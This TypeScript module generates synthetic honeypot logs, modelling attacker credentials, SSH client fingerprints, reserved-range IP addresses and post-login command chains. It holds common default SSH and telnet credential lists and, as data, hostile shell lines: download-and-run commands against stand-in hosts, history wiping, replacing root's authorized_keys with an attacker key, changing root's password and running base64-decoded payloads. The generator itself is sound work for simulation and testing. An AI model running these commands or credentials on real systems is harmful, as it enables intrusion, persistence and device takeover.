/**
 * The attackers of generated logs: who connects, with what client, which credentials, commands and files.
 *
 * Everything has a rank; a low rank is common. Ranks have no end: the named lists give the head, the tail is made
 * from the rank by hashing, so a world of any size takes no memory. Addresses come from ranges that are never routed
 * (documentation, benchmarking, class E), hosts from reserved domains.
 */
import { createHash } from "node:crypto";
import { hashNumbers, type Random } from "./random.ts";

const USERS = (
  "root admin ubuntu user test pi oracle postgres git guest ftpuser support mysql hadoop deploy centos debian " +
  "jenkins minecraft nagios tomcat www ec2-user server dev es steam teamspeak odoo vagrant ansible docker nginx " +
  "developer zabbix backup operator student testuser administrator default ubnt vyos sysadmin web ftp demo " +
  "elasticsearch sol solana node validator redis kafka spark hive kubernetes gitlab gpadmin weblogic dspace " +
  "amandabackup"
).split(" ");
const PASSWORDS = (
  "123456 password admin root 1234 12345 12345678 123 qwerty test 1q2w3e4r ubuntu password123 admin123 abc123 " +
  "P@ssw0rd 111111 user raspberry 123456789 toor changeme qwerty123 1qaz2wsx oracle postgres root123 pass letmein " +
  "welcome test123 guest support default 666666 000000 123123 master 654321 Passw0rd! admin@123 p@ssw0rd root@123 " +
  "alpine system server dragon ftpuser git 54321 nopass Huawei@123 Aa123456 1234567890 zxcvbn qazwsx !QAZ2wsx " +
  "1q2w3e 3245gs5662d34 345gs5662d34 J5cmmu=Kyf0-br8CsW root1234 ubnt calvin temp student secret service"
).split(" ");
const TELNET_PAIRS = (
  "root:xc3511 root:vizxv root:admin admin:admin root:888888 root:default root:juantech root:123456 root:54321 " +
  "support:support root: admin:password root:root user:user admin: root:pass admin:admin1234 root:1111 " +
  "root:anko root:hi3518 root:jvbzd root:zlxx. root:7ujMko0vizxv root:system root:ikwb root:dreambox " +
  "root:realtek admin:1111 guest:12345 tech:tech admin:meinsm telecomadmin:admintelecom e8ehome:e8ehome default:"
)
  .split(" ")
  .map(pair => pair.split(":") as [string, string]);
const WORDS = (
  "falcon silver winter summer monkey shadow tiger orange hunter coffee sakura berlin madrid jupiter saturn rocket " +
  "pepper ginger cookie banana matrix phoenix dakota austin harley ranger soccer hockey yellow purple maggie buster"
).split(" ");

/** How deep the tails reach: ranks beyond are drawn evenly, so the cut shows in no count. */
const TAIL = 5_000_000;

export interface Credential {
  readonly username: string;
  readonly password: string;
}

/** The credential of a rank; rank 0 is the most common. */
export function credentialOf(rank: number): Credential {
  const h = hashNumbers(rank, 11);
  if (rank < 400) {
    // Head: root with the password list, then other users, most with their own name or a common password.
    const username = h % 100 < 45 ? "root" : USERS[Math.min(USERS.length - 1, Math.floor((h % 997) ** 2 / 16500))]!;
    if (username !== "root" && h % 3 === 0) return { username, password: username };
    return { username, password: PASSWORDS[(rank + (h % 7)) % PASSWORDS.length]! };
  }
  const word = WORDS[h % WORDS.length]!;
  const username = h % 10 < 5 ? "root" : h % 10 < 8 ? USERS[(h >>> 5) % USERS.length]! : `${word}${(h >>> 9) % 40}`;
  const g = hashNumbers(rank, 12);
  const tail = String(g % 10 ** (2 + (h % 5)));
  const shapes = [`${word}${tail}`, `${username}@${tail}`, `${word}!${tail}`, tail + word, username + tail];
  return { username, password: shapes[g % shapes.length]! };
}

export function drawCredential(random: Random): Credential {
  return credentialOf(random.zipf(1.35, TAIL, 8));
}

export function drawTelnetCredential(random: Random): Credential {
  const rank = random.zipf(1.7, TAIL, 10);
  if (rank >= TELNET_PAIRS.length) return credentialOf(rank);
  const [username, password] = TELNET_PAIRS[rank]!;
  return { username, password };
}

/** What a client offers in its key exchange, and the MD5 Cowrie makes of it. */
export interface KeyExchange {
  readonly hassh: string;
  readonly algorithms: string;
  readonly kex: readonly string[];
  readonly key: readonly string[];
  readonly enc: readonly string[];
  readonly mac: readonly string[];
  readonly comp: readonly string[];
}

export function keyExchange(kex: string, key: string, enc: string, mac: string, comp = "none"): KeyExchange {
  const algorithms = [kex, enc, mac, comp].join(";");
  const hassh = createHash("md5").update(algorithms).digest("hex");
  const list = (text: string) => text.split(",");
  return { hassh, algorithms, kex: list(kex), key: list(key), enc: list(enc), mac: list(mac), comp: list(comp) };
}

const NIST = "ecdh-sha2-nistp256,ecdh-sha2-nistp384,ecdh-sha2-nistp521";
const CTR = "aes128-ctr,aes192-ctr,aes256-ctr";
const ETM = "hmac-sha2-256-etm@openssh.com,hmac-sha2-512-etm@openssh.com";
const GO = keyExchange(
  `curve25519-sha256,curve25519-sha256@libssh.org,${NIST},diffie-hellman-group14-sha256,diffie-hellman-group14-sha1`,
  "rsa-sha2-512,rsa-sha2-256,ssh-rsa,ecdsa-sha2-nistp256,ecdsa-sha2-nistp384,ecdsa-sha2-nistp521,ssh-ed25519",
  `aes128-gcm@openssh.com,chacha20-poly1305@openssh.com,${CTR}`,
  "hmac-sha2-256-etm@openssh.com,hmac-sha2-256,hmac-sha1,hmac-sha1-96",
);
const GO_OLD = keyExchange(
  `curve25519-sha256@libssh.org,${NIST},diffie-hellman-group14-sha1,diffie-hellman-group1-sha1`,
  "ssh-rsa,ssh-dss,ecdsa-sha2-nistp256,ecdsa-sha2-nistp384,ecdsa-sha2-nistp521,ssh-ed25519",
  `${CTR},aes128-gcm@openssh.com,arcfour256,arcfour128`,
  "hmac-sha2-256,hmac-sha1,hmac-sha1-96",
);
const LIBSSH2 = keyExchange(
  "diffie-hellman-group-exchange-sha256,diffie-hellman-group-exchange-sha1,diffie-hellman-group14-sha1," +
    "diffie-hellman-group1-sha1",
  "ssh-rsa,ssh-dss",
  `${CTR},aes256-cbc,rijndael-cbc@lysator.liu.se,aes192-cbc,aes128-cbc,blowfish-cbc,arcfour128,arcfour,` +
    "cast128-cbc,3des-cbc",
  "hmac-sha2-256,hmac-sha2-512,hmac-sha1,hmac-sha1-96,hmac-md5,hmac-md5-96,hmac-ripemd160",
);
const LIBSSH = keyExchange(
  `curve25519-sha256,curve25519-sha256@libssh.org,${NIST},diffie-hellman-group18-sha512,diffie-hellman-group16-sha512`,
  "ssh-ed25519,ecdsa-sha2-nistp521,ecdsa-sha2-nistp384,ecdsa-sha2-nistp256,rsa-sha2-512,rsa-sha2-256",
  "chacha20-poly1305@openssh.com,aes256-gcm@openssh.com,aes128-gcm@openssh.com,aes256-ctr,aes192-ctr,aes128-ctr",
  `${ETM},hmac-sha2-256,hmac-sha2-512`,
);
const OPENSSH = keyExchange(
  `curve25519-sha256,curve25519-sha256@libssh.org,${NIST},diffie-hellman-group-exchange-sha256,` +
    "diffie-hellman-group16-sha512,diffie-hellman-group18-sha512,diffie-hellman-group14-sha256,ext-info-c",
  "ssh-ed25519-cert-v01@openssh.com,ssh-ed25519,ecdsa-sha2-nistp256,rsa-sha2-512,rsa-sha2-256",
  `chacha20-poly1305@openssh.com,${CTR},aes128-gcm@openssh.com,aes256-gcm@openssh.com`,
  `umac-64-etm@openssh.com,umac-128-etm@openssh.com,${ETM},umac-64@openssh.com,hmac-sha2-256,hmac-sha2-512`,
  "none,zlib@openssh.com,zlib",
);
const PARAMIKO = keyExchange(
  `${NIST},diffie-hellman-group14-sha1,diffie-hellman-group-exchange-sha1,diffie-hellman-group1-sha1`,
  "ssh-ed25519,ecdsa-sha2-nistp256,ecdsa-sha2-nistp384,ecdsa-sha2-nistp521,ssh-rsa,ssh-dss",
  `${CTR},aes128-cbc,aes192-cbc,aes256-cbc,blowfish-cbc,3des-cbc`,
  "hmac-sha2-256,hmac-sha2-512,hmac-sha1,hmac-md5,hmac-sha1-96,hmac-md5-96",
);
const PUTTY = keyExchange(
  "curve25519-sha256@libssh.org,ecdh-sha2-nistp256,diffie-hellman-group14-sha1,diffie-hellman-group1-sha1",
  "ecdsa-sha2-nistp256,ssh-rsa,ssh-dss",
  "aes256-ctr,aes192-ctr,aes128-ctr,aes256-cbc,aes192-cbc,aes128-cbc,blowfish-cbc,3des-cbc",
  "hmac-sha1",
);
const ZGRAB = keyExchange(
  `curve25519-sha256@libssh.org,${NIST},diffie-hellman-group14-sha1,diffie-hellman-group1-sha1`,
  "ecdsa-sha2-nistp256,ssh-rsa,ssh-dss,ssh-ed25519",
  "aes128-ctr,aes192-ctr,aes256-ctr,3des-cbc,blowfish-cbc",
  "hmac-sha2-256,hmac-sha1",
);

export interface Client {
  readonly version: string;
  readonly exchange: KeyExchange;
}

/** Commonest first. */
const CLIENTS: readonly Client[] = [
  { version: "SSH-2.0-Go", exchange: GO },
  { version: "SSH-2.0-libssh2_1.4.3", exchange: LIBSSH2 },
  { version: "SSH-2.0-Go", exchange: GO_OLD },
  { version: "SSH-2.0-libssh_0.9.6", exchange: LIBSSH },
  { version: "SSH-2.0-PUTTY", exchange: PUTTY },
  { version: "SSH-2.0-libssh2_1.9.0", exchange: LIBSSH2 },
  { version: "SSH-2.0-OpenSSH_7.4", exchange: OPENSSH },
  { version: "SSH-2.0-libssh-0.6.3", exchange: PUTTY },
  { version: "SSH-2.0-paramiko_2.7.2", exchange: PARAMIKO },
  { version: "SSH-2.0-ZGrab ZGrab SSH Survey", exchange: ZGRAB },
  { version: "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.10", exchange: OPENSSH },
  { version: "SSH-2.0-libssh_0.11.1", exchange: LIBSSH },
  { version: "SSH-2.0-JSCH-0.1.54", exchange: PARAMIKO },
  { version: "SSH-2.0-AsyncSSH_2.1.0", exchange: OPENSSH },
  { version: "SSH-2.0-Nmap-SSH2-Hostkey", exchange: ZGRAB },
  { version: "SSH-2.0-sshlib-0.1", exchange: LIBSSH2 },
];

/** First lines that are no SSH banner. */
export const OTHER_FIRST_LINES = [
  "",
  "GET / HTTP/1.1",
  "MGLNDD_192.0.2.10_22",
  "\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u0001\ufffd\u0003\u0003",
  "OPTIONS sip:nm SIP/2.0",
  "\u0003\u0000\u0000/*\ufffd\u0000\u0000\u0000\u0000\u0000Cookie: mstshash=Administr",
];

/** One attacker's machine. */
export interface Source {
  readonly ip: string;
  readonly client: Client;
  /** What it runs once it is in. */
  readonly chain: number;
  /** Its files and keys. */
  readonly family: number;
}

function clientOf(h: number): Client {
  return CLIENTS[Math.min(CLIENTS.length - 1, Math.floor((h % 1009) ** 2 / 63_600))]!;
}

function sourceOf(ip: string, h: number): Source {
  return {
    ip,
    client: clientOf(h),
    chain: hashNumbers(h, 21),
    family: Math.floor(((hashNumbers(h, 22) % 10_007) / 10_007) ** 3 * 400),
  };
}

/** Days a returning machine stays before another takes its slot; differs from slot to slot. */
function stayDays(slot: number): number {
  return 3 + (hashNumbers(slot, 31) % 60);
}

/**
 * Who connects on this day: mostly machines that return (the busy ones daily), else somebody seen once.
 *
 * @param day Days since 1970-01-01.
 */
export function drawSource(random: Random, day: number): Source {
  if (random.chance(0.22)) {
    const h = random.word();
    return sourceOf(`${240 + (h >>> 29)}.${(h >>> 21) & 255}.${(h >>> 13) & 255}.${1 + ((h >>> 5) % 254)}`, h);
  }
  const slot = random.zipf(1.55, 60_000, 6);
  const h = hashNumbers(slot, 1 + Math.floor((day + (hashNumbers(slot, 32) % 64)) / stayDays(slot)));
  // The busiest live in the documentation ranges, the rest in the range for benchmarks.
  if (slot < 300) return sourceOf(`${["192.0.2", "198.51.100"][h & 1]!}.${1 + ((h >>> 8) % 254)}`, h);
  return sourceOf(`198.${18 + (h & 1)}.${(h >>> 8) & 255}.${1 + ((h >>> 16) % 254)}`, h);
}

/** A file that attackers bring: the same family always has the same hash and place. */
export interface Malware {
  readonly shasum: string;
  readonly url: string;
  readonly filename: string;
  /** Verdict of the scanners; undefined = never seen by them. */
  readonly positives: number | undefined;
  readonly total: number;
}

const FILE_NAMES = "sshd bins.sh x86_64 arm7 mips kthreadd dota3.tar.gz redtail.x86_64 setup.sh".split(" ");

export function malwareOf(family: number): Malware {
  const h = hashNumbers(family, 41);
  const filename = FILE_NAMES[h % FILE_NAMES.length]!;
  const host = h % 3 === 0 ? `cdn${h % 50}.example.net` : `203.0.113.${1 + ((h >>> 4) % 200)}`;
  const scheme = h % 17 === 0 ? "ftp" : "http";
  return {
    shasum: shaOf(`family ${family}`),
    url: `${scheme}://${host}${h % 4 === 0 ? ":8080" : ""}/${h % 5 === 0 ? "d/" : ""}${filename}`,
    filename,
    positives: h % 11 === 0 ? undefined : (h >>> 7) % 58,
    total: 60 + ((h >>> 3) % 14),
  };
}

const shas = new Map<string, string>();

/** SHA-256 in hex; remembers the last few thousand, because logs repeat themselves. */
export function shaOf(text: string): string {
  let sha = shas.get(text);
  if (sha === undefined) {
    sha = createHash("sha256").update(text).digest("hex");
    if (shas.size > 5000) shas.clear();
    shas.set(text, sha);
  }
  return sha;
}

/** A key pair's public half as OpenSSH writes it; believable, not valid. */
export function publicKeyOf(family: number): { key: string; type: string; fingerprint: string } {
  const type = family % 3 === 0 ? "ssh-ed25519" : "ssh-rsa";
  const hex = shaOf(`key ${family}`);
  const body = Buffer.from(hex.repeat(type === "ssh-rsa" ? 7 : 1)).toString("base64");
  const start = type === "ssh-rsa" ? "AAAAB3NzaC1yc2EAAAADAQABAAABAQ" : "AAAAC3NzaC1lZDI1NTE5AAAAI";
  const bodyLength = type === "ssh-rsa" ? 342 : 43;
  return {
    key: `${type} ${start}${body.slice(0, bodyLength)}`,
    type,
    fingerprint: hex.slice(0, 32).replace(/..(?=.)/g, "$&:"),
  };
}

/** Command words of the fake shell; everything else fails. */
const KNOWN_COMMANDS = new Set(
  (
    "cd cat uname wget curl tftp chmod rm mv cp echo ls ps id w free top crontab nproc which grep awk wc head uptime " +
    "whoami history busybox /bin/busybox sh bash enable shell mkdir chattr ifconfig df lscpu passwd export unset " +
    "tar kill pkill sleep hostname last dmesg mount touch dd"
  ).split(" "),
);

/** The parts of a line that the shell does not know, as `command.failed` gives them. */
export function failedParts(line: string): string[] {
  return line
    .split(/\s*(?:;|&&|\|\||\||\n)\s*/)
    .filter(part => part !== "" && !KNOWN_COMMANDS.has(part.split(" ", 1)[0]!) && !/^\w+=/.test(part));
}

export interface Chain {
  /** One exec or shell line each. */
  readonly lines: readonly string[];
  /** It fetches its malware over the network. */
  readonly fetches?: boolean;
  /** The path a shell redirect leaves, and what was written there. */
  readonly redirect?: { readonly path: string; readonly shasum: string };
}

/** Recon lines that scanners send as they are. */
const RECON = [
  "uname -a",
  "uname -s -v -n -r -m",
  "cat /proc/cpuinfo | grep name | wc -l",
  "/ip cloud print",
  "ifconfig",
  "cat /proc/cpuinfo",
  "ps | grep '[Mm]iner'",
  "ps -ef | grep '[Mm]iner'",
  "ls -la /dev/ttyGSM* /dev/ttyUSB-mod* /var/spool/sms/* /var/log/smsd.log /etc/smsd.conf* /usr/bin/qmuxd",
  "locate D877F783D5D3EF8Cs",
  "echo Hi | cat -n",
  "whoami",
  "nproc",
  "lscpu",
  "id",
  "lspci | grep VGA",
  "cat /etc/issue",
  "nvidia-smi -q | grep \"Product Name\"",
  "export PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin:$PATH; " +
    "uname=$(uname -s -v -n -m 2>/dev/null); arch=$(uname -m 2>/dev/null); " +
    "uptime=$(cat /proc/uptime 2>/dev/null | cut -d. -f1); echo \"UNAME:$uname\"",
];

/**
 * What a machine runs.
 *
 * @param kind Any whole number: machines of one kind run the same chain with their own malware.
 */
export function chainOf(kind: number, malware: Malware, random: Random): Chain {
  const k = kind % 100;
  const { url, filename } = malware;
  if (k < 38) return { lines: [RECON[Math.min(RECON.length - 1, Math.floor((kind % 997) ** 2 / 52_300))]!] };
  if (k < 52) {
    const key = publicKeyOf(kind % 3).key;
    const line =
      `cd ~ && rm -rf .ssh && mkdir .ssh && echo "${key} ${["mdrfckr", "rsa-key", "root@build"][kind % 3]}">>` +
      ".ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~";
    const redirect = { path: "/root/.ssh/authorized_keys", shasum: shaOf(key) };
    if (kind % 2 === 0) return { lines: [line], redirect };
    return {
      lines: [
        "cd ~; chattr -ia .ssh; lockr -ia .ssh",
        line,
        `echo "root:${random.hex(12)}"|chpasswd|bash`,
        "rm -rf /tmp/secure.sh; rm -rf /tmp/auth.sh; pkill -9 secure.sh; pkill -9 auth.sh; echo > /etc/hosts.deny",
        "cat /proc/cpuinfo | grep name | wc -l",
        "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
        "ls -lh $(which ls)",
        "crontab -l",
        "w",
        "uname -m",
        "cat /proc/cpuinfo | grep model | grep name | wc -l",
        "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
      ],
      redirect,
    };
  }
  if (k < 78) {
    const place = ["/tmp", "/var/run", "/dev/shm", "/var/tmp"][kind % 4]!;
    return {
      lines: [
        `cd ${place}; wget ${url} -O .${filename} || curl ${url} -o .${filename}; chmod 777 .${filename}; ` +
          `./.${filename} ${["ssh", "scan", "x", "root"][(kind >>> 4) % 4]}; rm -rf .${filename}; history -c`,
      ],
      fetches: true,
    };
  }
  if (k < 88) {
    // Names that change each time: the tail of distinct commands.
    const name = random.hex(8);
    return {
      lines: [
        `cd /tmp; echo ${random.hex(24)} | base64 -d > .${name}; sh .${name}; rm -f .${name}`,
        `ls -la /tmp/.${name}`,
      ],
    };
  }
  if (k < 94) {
    const echo = random.hex(4).toUpperCase();
    return { lines: ["enable", "system", "shell", "sh", `echo -e "\\x41\\x4b\\x34\\x37"`, `/bin/busybox ${echo}`] };
  }
  return {
    lines: ["uname -a", "cat /etc/passwd", "w", "ls -la", `wget ${url}`, `perl ${filename}`, "history -c", "exit"],
    fetches: true,
  };
}

/** Lines of a telnet bot. */
export function telnetChainOf(kind: number, malware: Malware, random: Random): Chain {
  const tag = ["ECCHI", "MIORI", "OWARI", "KOWAI", "SORA"][kind % 5]!;
  const opening = ["enable", "system", "shell", "sh", `cat /proc/mounts; /bin/busybox ${tag}`];
  if (kind % 4 === 0) return { lines: opening };
  if (kind % 4 === 1) {
    const dir = `/.${random.hex(6)}`;
    return { lines: [...opening, `cd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox ${tag}`, `echo ok > ${dir}`] };
  }
  const fetch = `wget ${malware.url} -O - > .x; chmod 777 .x; ./.x telnet; >.x; /bin/busybox ${tag}`;
  return { lines: [...opening, "tftp; wget; /bin/busybox " + tag, fetch], fetches: true };
}

/** Where forwards of rented-out logins go. */
export function forwardTargetOf(random: Random): { ip: string; port: number; data: string } {
  const rank = random.zipf(1.7, 20_000, 3);
  const names = ["ya.example", "ip-check.example.com", "google.example", "login.example.org", "mail.example.net"];
  if (rank < 40) {
    const ip = rank < names.length ? names[rank]! : `shop${rank}.example.com`;
    const port = rank % 3 === 0 ? 80 : rank % 7 === 4 ? 25 : 443;
    return { ip, port, data: port === 80 ? `GET / HTTP/1.1\r\nHost: ${ip}\r\nUser-Agent: curl/7.${rank}\r\n\r\n` : "" };
  }
  const h = hashNumbers(rank, 51);
  return { ip: `203.0.113.${h & 255}`, port: [443, 80, 993, 587, 5555][h % 5]!, data: "" };
}

/** What to record of a terminal: the hash names the recording. */
export function recordingOf(lines: readonly string[]): string {
  return shaOf(lines.join("\n"));
}
